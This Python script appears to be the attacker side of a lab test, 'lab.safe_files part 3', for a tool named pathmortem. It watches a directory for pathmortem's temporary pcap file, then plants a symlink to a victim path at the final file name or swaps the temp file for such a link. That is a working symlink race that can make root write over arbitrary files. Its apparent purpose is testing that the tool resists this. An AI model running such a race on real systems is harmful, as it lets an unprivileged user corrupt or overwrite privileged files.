#!/usr/bin/python3
# plant_at_name.py - the attacker of lab.safe_files part 3, run as the owner of a directory root writes its default pcap into: waits for pathmortem's temp file to appear, then either plants a link to VICTIM at the final name it reveals, or swaps the temp file for such a link. usage: plant_at_name.py DIR VICTIM final|swap READY_FILE
import os
import re
import sys
import time

d, victim, mode, ready = sys.argv[1:5]
# ".<final name>.pathmortem-<pid>-<8 hex>.tmp", final name "pathmortem-<UTC>Z-<pid>.pcap"
tmp_re = re.compile(r"^\.(pathmortem-\d{8}T\d{6}\.\d{3}Z-\d+\.pcap)\.pathmortem-\d+-[0-9a-f]{8}\.tmp$")
open(ready, "w").close()
deadline = time.monotonic() + 60
while time.monotonic() < deadline:
    for name in os.listdir(d):
        m = tmp_re.match(name)
        if not m:
            continue
        final = m.group(1)
        if mode == "final":
            os.symlink(victim, os.path.join(d, final))
        else:
            os.rename(os.path.join(d, name), os.path.join(d, "stolen"))
            os.symlink(victim, os.path.join(d, name))
        print(final, flush=True)
        sys.exit(0)
    time.sleep(0.001)
print("no temp file appeared", file=sys.stderr)
sys.exit(1)
